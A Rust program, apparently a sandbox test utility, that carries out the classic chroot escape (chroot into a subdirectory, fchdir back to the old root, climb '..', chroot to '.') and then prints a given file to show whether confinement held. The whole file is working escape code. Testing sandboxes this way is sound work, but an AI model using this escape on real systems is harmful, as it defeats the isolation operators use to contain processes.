//! The classic way out of a chroot. chroot(2): "This call does not change the current
//! working directory, so that after the call '.' can be outside the tree rooted at
//! '/'."
//!
//! `breakout FILE` climbs as high as possible, then prints the file.

use std::process::ExitCode;

use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir, mkdir};

fn main() -> ExitCode {
    let Some(file) = std::env::args().nth(1) else {
        eprintln!("usage: breakout FILE");
        return ExitCode::from(2);
    };
    if let Err(error) = climb() {
        eprintln!("breakout: cannot climb: {error}");
        return ExitCode::from(2);
    }
    match std::fs::read_to_string(&file) {
        Ok(text) => {
            println!("outside: {text}");
            ExitCode::SUCCESS
        }
        Err(error) => {
            println!("still inside: {error}");
            ExitCode::FAILURE
        }
    }
}

fn climb() -> nix::Result<()> {
    match mkdir("/breakout.dir", Mode::S_IRWXU) {
        Ok(()) | Err(Errno::EEXIST) => {}
        Err(error) => return Err(error),
    }
    let old_root = open("/", OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty())?;
    chroot("/breakout.dir")?; // the root is now below the working directory,
    fchdir(&old_root)?; // and .. stops only at the root
    for _ in 0..100 {
        chdir("..")?;
    }
    chroot(".")
}
